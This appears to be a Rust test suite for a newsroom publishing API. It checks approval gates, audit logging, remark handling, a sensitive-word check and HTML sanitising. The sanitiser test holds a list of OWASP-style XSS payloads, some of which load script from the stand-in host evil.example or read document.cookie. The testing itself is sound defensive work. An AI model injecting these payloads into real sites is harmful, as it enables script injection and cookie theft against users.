//! Nothing goes round the gate: every way that somebody could try, what is said of it, and
//! that it is written down.

use super::*;

/// What stands in the audit about an article, the oldest first.
async fn audit_of(room: &Room, id: i64, action: &str) -> Vec<audit::Model> {
    audit::Entity::find()
        .filter(audit::Column::Action.eq(action))
        .filter(audit::Column::Object.eq(format!("article:{id}")))
        .all(room.app.app.db.read())
        .await
        .unwrap()
}

/// What the gate is asked to let through.
const DOORS: [(&str, &str); 5] = [
    ("publish", "{}"),
    ("mass-send", "{}"),
    ("plan", r#"{"way": "publish", "at": "2026-09-02T01:00:00Z"}"#),
    ("export", "{}"),
    ("by-hand", r#"{"link": "https://mp.weixin.qq.com/s/abc"}"#),
];

in_the_news_room! {
    async fn no_role_gets_an_unpassed_article_through_any_door(room: Room) {
        let id = room.draft().await;
        let mut noted = 0;
        for role in [Role::Admin, Role::Centre, Role::Officer, Role::Teacher, Role::Editor, Role::SectionHead, Role::Leader] {
            let who = clerk(&room.app, &format!("x-{}", role.as_str()), role, None).await;
            let of_the_desk = matches!(role, Role::Editor | Role::SectionHead | Role::Leader);
            for (door, body) in DOORS {
                let path = format!("/api/staff/articles/{id}/{door}");
                let answer = room.post(&who, &path, &serde_json::from_str(body).unwrap()).await;
                if of_the_desk {
                    answer.refused(409, "not_approved");
                    noted += 1;
                    let last = audit_of(&room, id, "news.refused").await.pop().unwrap();
                    assert_eq!(last.staff_id, Some(who.id), "{door}");
                } else {
                    answer.refused(403, "forbidden");
                    let tried = audit::Entity::find()
                        .filter(audit::Column::Action.eq("staff.forbidden"))
                        .filter(audit::Column::Object.eq(format!("POST {path}")))
                        .filter(audit::Column::StaffId.eq(who.id))
                        .count(room.app.app.db.read())
                        .await
                        .unwrap();
                    assert_eq!(tried, 1, "{door}");
                }
            }
        }
        assert_eq!(audit_of(&room, id, "news.refused").await.len(), noted);
        room.app.run_jobs().await;
        assert_eq!((room.publications(id).await.len(), room.platform.requests().len()), (0, 0));
        // Reading what is not theirs is refused as well, and is no attempt on the gate.
        let teacher = clerk(&room.app, "laoshi", Role::Teacher, None).await;
        room.get(&teacher, &format!("/api/staff/articles/{id}")).await.refused(403, "forbidden");
        let trace = room.get(&room.author, &format!("/api/staff/articles/{id}/trace")).await.ok();
        assert_eq!(trace["total"], noted);
        assert!(trace["items"][0]["text"].as_str().unwrap().contains("没有放行"), "{trace}");
    }

    async fn an_altered_content_a_replayed_pass_and_a_forged_row_are_refused_and_written_down(room: Room) {
        // Altered after the third pass, by hand in the table.
        let id = room.approved().await;
        set_article(&room, id, |row| row.body = Set("偷换的正文".to_owned())).await;
        room.publish(id).await.refused(409, "not_approved");
        assert_eq!(audit_of(&room, id, "news.refused").await.len(), 1);

        // The same verdict sent again, and the verdict on a content that is no more.
        let id = room.draft().await;
        room.submit(id).await.ok();
        let old = room.article(id).await;
        let pass = json!({"content_hash": old["content_hash"], "stage": "language", "verdict": "pass", "proofread": true});
        let reviews = format!("/api/staff/articles/{id}/reviews");
        room.post(&room.editor, &reviews, &pass).await.ok();
        room.post(&room.editor, &reviews, &pass).await.refused(403, "same_person");
        room.put(&room.author, &format!("/api/staff/articles/{id}"), &changed(&old, "另一稿")).await.ok();
        room.submit(id).await.ok();
        room.post(&room.editor, &reviews, &pass).await.refused(409, "content_changed");
        let refused: Vec<_> = audit_of(&room, id, "news.refused").await.into_iter().filter_map(|row| row.detail).collect();
        assert_eq!(refused, ["review: same_person", "review: content_changed"]);

        // A publication and its job made in the tables.
        let id = room.draft().await;
        set_article(&room, id, |row| row.status = Set(ArticleStatus::Publishing)).await;
        let hash = room.row(id).await.content_hash;
        forge(&room, id, &hash).await;
        room.app.run_jobs().await;
        assert_eq!(room.publications(id).await[0].state, PublicationState::Failed);
        let refused = audit_of(&room, id, "news.refused").await;
        assert_eq!((refused.len(), refused[0].staff_id), (1, None));
        assert_eq!(refused[0].detail.as_deref(), Some("job: not_approved"));

        // Passes made in the tables, without the proof-readings that belong to them.
        let id = room.draft().await;
        let row = room.row(id).await;
        for (stage, who) in [(ReviewStage::Language, &room.editor), (ReviewStage::Facts, &room.head), (ReviewStage::Direction, &room.leader)] {
            let pass = article_review::ActiveModel {
                article_id: Set(row.id),
                version: Set(row.version),
                content_hash: Set(row.content_hash.clone()),
                stage: Set(stage),
                verdict: Set(Verdict::Pass),
                reviewer_id: Set(who.id),
                proofread: Set(false),
                at: Set(room.app.now()),
                ..Default::default()
            };
            pass.insert(room.app.app.db.writer()).await.unwrap();
        }
        set_article(&room, id, |row| row.status = Set(ArticleStatus::Approved)).await;
        room.publish(id).await.refused(409, "not_approved");
        assert_eq!(room.platform.requests().len(), 0, "nothing was sent");
    }

    async fn a_pass_needs_the_proof_reading_of_its_stage(room: Room) {
        let id = room.draft().await;
        let waiting = room.submit(id).await.ok();
        assert!(waiting["next_proof"].as_str().unwrap().contains("一校"), "{waiting}");
        let body = json!({"content_hash": waiting["content_hash"], "stage": "language", "verdict": "pass"});
        let path = format!("/api/staff/articles/{id}/reviews");
        let said = room.post(&room.editor, &path, &body).await.refused(400, "proof_needed");
        assert!(said["message"].as_str().unwrap().contains("一校"), "{said}");
        let passed = room.review(&room.editor, id, "language", "pass").await.ok();
        assert_eq!(passed["reviews"][0]["proofread"], true);
        room.review(&room.head, id, "facts", "pass").await.ok();
        assert!(room.article(id).await["next_proof"].as_str().unwrap().contains("读出声"));
        // To return it nothing has to be read to its end.
        let body = json!({"content_hash": waiting["content_hash"], "stage": "direction", "verdict": "return", "remark": "再想想"});
        room.post(&room.leader, &path, &body).await.ok();
    }

    async fn an_open_remark_stops_every_pass_and_every_publication(room: Room) {
        let id = room.draft().await;
        room.submit(id).await.ok();
        let shown = room.article(id).await;
        let path = format!("/api/staff/articles/{id}/remarks");
        let at = |quote: &str| json!({"content_hash": shown["content_hash"], "quote": quote, "text": "是哪一天？"});
        room.post(&room.author, &path, &at("第一课")).await.refused(403, "own_article");
        room.post(&room.head, &path, &at("第二课")).await.refused(400, "no_such_place");
        room.post(&room.head, &path, &at(" ")).await.refused(400, "remark_needed");
        // As a browser selects it: with a line end where the page has one.
        let made = room.post(&room.head, &path, &at("第一课，大家\n学起针")).await.ok();
        let remark = made["remarks"][0]["id"].as_i64().unwrap();
        assert_eq!((&made["open_remarks"], &made["remarks"][0]["stands"]), (&json!(1), &json!(true)));
        assert_eq!((&made["remarks"][0]["may_answer"], &made["remarks"][0]["may_settle"]), (&json!(false), &json!(true)));

        room.review(&room.editor, id, "language", "pass").await.refused(409, "remarks_open");
        let act = |what: &str| format!("/api/staff/remarks/{remark}/{what}");
        room.post(&room.head, &act("answer"), &json!({"text": "我来答"})).await.refused(403, "not_author");
        room.post(&room.author, &act("settle"), &json!({})).await.refused(403, "own_article");
        room.post(&room.author, &act("answer"), &json!({"text": "九月一日，已经补上。"})).await.ok();
        let shown = room.article(id).await;
        assert_eq!(shown["remarks"][0]["answered_by"], "xiaochang同志");
        room.put(&room.author, &format!("/api/staff/articles/{id}"), &changed(&shown, "九月一日开课。\n")).await.ok();
        room.submit(id).await.ok();
        assert_eq!(room.article(id).await["remarks"][0]["stands"], false, "the words are gone, the remark is not");
        room.review(&room.editor, id, "language", "pass").await.refused(409, "remarks_open");
        room.post(&room.head, &act("settle"), &json!({})).await.ok();
        room.post(&room.leader, &act("settle"), &json!({})).await.refused(409, "remark_settled");
        room.pass_all(id).await;

        // Made after the third pass: nothing is published, also not what was ordered before.
        let late = room.article(id).await;
        let again = json!({"content_hash": late["content_hash"], "quote": "九月一日", "text": "核对日期"});
        room.post(&room.leader, &path, &again).await.ok();
        room.publish(id).await.refused(409, "remarks_open");
        let open = room.article(id).await;
        assert!(!open["may"].as_array().unwrap().contains(&json!("publish")), "{open}");
        let remark = open["remarks"][1]["id"].as_i64().unwrap();
        room.post(&room.editor, &format!("/api/staff/remarks/{remark}/settle"), &json!({})).await.ok();
        room.publish(id).await.ok();
        assert_eq!(room.drive(id).await["status"], "published");
    }

    async fn what_must_not_be_published_is_not_handed_in(room: Room) {
        let cover = room.picture(1).await;
        let body = "她的身份证是 11010519491231002X，电话13900000001。\n\n我们是最佳学堂，既使下雨也开课。";
        let mut text = text(cover, cover);
        text["body"] = body.into();
        let id = room.post(&room.author, "/api/staff/articles", &text).await.ok()["id"].as_i64().unwrap();
        let path = format!("/api/staff/articles/{id}/check");
        let found = room.get(&room.author, &path).await.ok();
        let lines: Vec<String> = found["items"].as_array().unwrap().iter()
            .map(|one| format!("{} {} {}", one["weight"].as_str().unwrap(), one["place"].as_str().unwrap(), one["message"].as_str().unwrap()))
            .collect();
        assert!(lines[0].starts_with("stop 第 1 段") && lines[0].contains("身份证"), "{lines:?}");
        for word in ["手机号", "绝对化", "即使"] {
            assert!(lines.iter().any(|line| line.contains(word)), "{word}: {lines:?}");
        }
        assert!(!found.to_string().contains("19491231"), "a number that is found is not shown again");
        room.submit(id).await.refused(400, "check_refused");
        let shown = room.article(id).await;
        room.put(&room.author, &format!("/api/staff/articles/{id}"), &changed(&shown, "既使下雨也开课。")).await.ok();
        // A hint is a hint.
        room.submit(id).await.ok();

        // The table of words is the desk's own.
        let words = "/api/staff/news-words";
        room.put(&room.head, words, &json!({"kind": "forbidden", "word": "开课", "instead": "开班"})).await;
        room.post(&room.head, "/api/staff/news-words/drop", &json!({"kind": "misspelt", "word": "既使"})).await;
        let found = room.get(&room.author, &path).await.ok();
        assert_eq!(found["total"], 1, "{found}");
        assert!(found["items"][0]["message"].as_str().unwrap().contains("开班"));
        room.put(&room.head, words, &json!({"kind": "forbidden", "word": "开课", "instead": "开讲"})).await;
        let listed = room.get(&room.head, words).await.ok();
        let of = |word: &str| listed["items"].as_array().unwrap().iter().filter(|one| one["word"] == word).cloned().collect::<Vec<_>>();
        assert_eq!((of("开课").len(), of("既使").len()), (1, 0));
        assert_eq!(of("开课")[0]["instead"], "开讲");
        room.put(&room.head, words, &json!({"kind": "official", "word": "张三"})).await.refused(400, "news_word");
        room.put(&room.head, words, &json!({"kind": "misspelt", "word": "的"})).await.refused(400, "news_word");
    }

    /// <https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html>
    /// and what has got through Markdown elsewhere.
    async fn stored_scripts_reach_no_reader(room: Room) {
        let cover = room.picture(1).await;
        for payload in PAYLOADS {
            for body in [(*payload).to_owned(), format!("[x]({payload})"), format!("![x]({payload})"), format!("> {payload}"), format!("| a |\n|---|\n| {payload} |"), format!("```\n{payload}\n```"), format!("[x][r]\n\n[r]: {payload}"), format!("<{payload}>")] {
                let text = json!({"title": payload.chars().take(60).collect::<String>(), "digest": "x", "body": body, "cover_id": cover});
                let answer = room.post(&room.author, "/api/staff/articles", &text).await.ok();
                let html = answer["html"].as_str().unwrap();
                for tag in html.split('<').skip(1).filter_map(|rest| rest.split('>').next()) {
                    let name = tag.trim_start_matches('/').split([' ', '\n', '/']).next().unwrap();
                    let known = ["p", "br", "hr", "strong", "em", "del", "small", "h1", "h2", "h3", "h4", "ul", "ol", "li", "blockquote", "pre", "code", "table", "thead", "tbody", "tr", "th", "td", "a", "img"];
                    assert!(known.contains(&name), "{payload} -> {html}");
                    let outside: String = tag.split('"').step_by(2).collect();
                    assert!(!outside.to_lowercase().contains(" on"), "{payload} -> {html}");
                    for value in tag.split('"').skip(1).step_by(2) {
                        let bare: String = value.to_lowercase().chars().filter(|one| !one.is_whitespace() && !one.is_control()).collect();
                        for scheme in ["javascript:", "vbscript:", "data:", "livescript:", "mocha:"] {
                            assert!(!bare.starts_with(scheme), "{payload} -> {html}");
                        }
                    }
                }
            }
        }
    }
}

const PAYLOADS: &[&str] = &[
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "\\<a onmouseover=\"alert(document.cookie)\"\\>xxs link\\</a\\>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14; javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"https://evil.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=https://evil.example/xss.js?< B >",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://evil.example/s.html\"></OBJECT>",
    "<A HREF=\"//www.evil.example/\" onclick=alert(1)>XSS</A>",
    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "&#x6A;avascript:alert(1)",
    "\u{1}javascript:alert(1)",
    "java\u{0}script:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "https://a.example/\"onmouseover=\"alert(1)",
    "x\" onerror=\"alert(1)",
    "picture:1\" onerror=\"alert(1)",
];
